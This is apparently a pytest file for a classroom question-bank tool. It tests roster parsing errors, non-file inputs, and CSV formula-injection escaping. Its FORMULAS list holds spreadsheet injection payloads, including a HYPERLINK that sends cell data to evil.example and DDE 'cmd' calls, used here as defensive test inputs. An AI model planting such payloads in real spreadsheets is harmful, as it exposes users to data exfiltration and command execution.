"""Issue 11, items 4, 6 and 13: rosters that would lose students or crash, and CSV that would run formulas."""

from __future__ import annotations

import csv
import io
import os

import pytest

from bank.classroom.spreadsheet import TRIGGERS, cell, unquote
from tests.classroom.conftest import QUESTIONS

from .conftest import run_bank


def variants(tmp_path, roster_text: str, *extra: str):
    roster = tmp_path / "roster.csv"
    roster.write_text(roster_text, encoding="utf-8")
    out = tmp_path / "out"
    done = run_bank(["variants", "tiny-space", "--roster", str(roster), "--out", str(out),
                     "--questions", str(QUESTIONS), *extra], cwd=tmp_path)
    return done, out


# ----------------------------------------------------------------------------- rosters

@pytest.mark.parametrize("text, message", [
    ('id,name\ns1,"Ada\ns2,Bo\ns3,Cy\n', "roster.csv:2: a quote in the row starting here never closes"),
    ('id,name\ns1,Ada\ns2,"Bo\n', "roster.csv:3: a quote in the row starting here never closes"),
    ('id,name\ns1,"Ada" Lovelace\n', "roster.csv:2: text follows a closing quote"),
    ("id,name\ns1," + "x" * 131_073 + "\n", "roster.csv:2: a cell is longer than 131,072 characters"),
    ("id,name\n" + "y" * 200_000 + ",Ada\n", "roster.csv:2: a cell is longer than 131,072 characters"),
], ids=["unterminated-quote", "unterminated-last-row", "text-after-quote", "huge-name", "huge-id"])
def test_a_malformed_roster_is_an_error_at_its_line(tmp_path, text, message):
    done, out = variants(tmp_path, text)
    assert done.returncode == 1, done.output
    assert message in done.output
    assert "_csv.Error" not in done.output
    assert not out.exists()


def test_an_id_too_long_for_a_file_name_is_refused(tmp_path):
    done, out = variants(tmp_path, "id,name\n" + "a" * 300 + ",Ada\n")
    assert done.returncode == 1
    assert "roster.csv:2: id `aaaaaaaaaaaaaaaaaaaa…` is 300 characters long; the limit is 100" in done.output


# ----------------------------------------------------------------------------- formulas

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(path):
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_names_from_a_roster_never_start_a_formula(tmp_path):
    roster = io.StringIO()
    csv.writer(roster).writerows([("id", "name"), *((f"s{i}", n) for i, n in enumerate(FORMULAS))])
    done, out = variants(tmp_path, roster.getvalue(), "--format", "csv")
    assert done.returncode == 0, done.output
    names = [row[1] for row in cells(out / "answer-key.csv")[1:]]
    assert names == ["'" + name.strip() for name in FORMULAS]   # the roster strips spaces around cells
    for row in cells(out / "answer-key.csv") + cells(out / "manifest.csv"):
        for value in row:
            assert not value.startswith(TRIGGERS) or value.lstrip("-").replace(".", "").isdigit(), value


def test_an_id_starting_with_at_round_trips_through_mark(tmp_path):
    """`@ada` is a legal id: the manifest writes it as `'@ada`, and `bank mark` reads it back as `@ada`."""
    done, out = variants(tmp_path, "id,name\n@ada,Ada\n")
    assert done.returncode == 0, done.output
    assert cells(out / "manifest.csv")[1][0] == "'@ada"
    submissions = tmp_path / "submissions"
    (submissions / "@ada").mkdir(parents=True)
    (submissions / "@ada" / "tiny-space.txt").write_text("1 + 1 = 2\n")
    marked = run_bank(["mark", "--manifest", str(out / "manifest.csv"), str(submissions),
                       "--out", str(tmp_path / "marks.csv"), "--questions", str(QUESTIONS)])
    assert marked.returncode == 0, marked.output
    assert cells(tmp_path / "marks.csv")[1][:2] == ["'@ada", "tiny-space"]
    assert (tmp_path / "feedback" / "@ada.txt").exists()


@pytest.mark.parametrize("value, shown", [
    ("-3", "-3"), ("-0.25", "-0.25"), ("1e-3", "1e-3"), ("-1.5E+3", "-1.5E+3"), ("35/3", "35/3"),
    ("-35/3", "'-35/3"), ("-$3", "'-$3"), ("+3", "'+3"), ("=1", "'=1"), ("@x", "'@x"), ("\t1", "'\t1"),
    ("\r1", "'\r1"), ("Ada", "Ada"), ("", ""), ("'=1", "'=1"), ("- 3", "'- 3"),
], ids=lambda v: repr(v))
def test_cells_follow_owasp_but_numbers_stay_numbers(value, shown):
    assert cell(value) == shown
    if not value.startswith("'"):   # ids and seeds never start with a quote; names are never read back
        assert unquote(cell(value)) == value


# ----------------------------------------------------------------------------- rosters and manifests that are not files

@pytest.mark.parametrize("make, words", [
    (lambda p: os.mkfifo(p), "it is a FIFO"),
    (lambda p: p.symlink_to("/dev/zero"), "it is a device"),
    (lambda p: p.mkdir(), None),                        # click refuses a folder as a usage error
], ids=["fifo", "dev-zero", "folder"])
def test_a_roster_or_manifest_that_is_not_a_file_never_hangs(tmp_path, make, words):
    path = tmp_path / "in.csv"
    make(path)
    (tmp_path / "sub").mkdir()
    for args in (["variants", "tiny-space", "--roster", str(path), "--out", str(tmp_path / "o")],
                 ["mark", "--manifest", str(path), str(tmp_path / "sub"), "--out", str(tmp_path / "m.csv")]):
        done = run_bank([*args, "--questions", str(QUESTIONS)], timeout=20, memory_mb=512)
        assert done.returncode in (1, 2), done.output
        if words:
            assert f"in.csv: cannot read the {'roster' if args[0] == 'variants' else 'manifest'}: {words}" in done.output
        assert not (tmp_path / "o").exists() and not (tmp_path / "m.csv").exists()
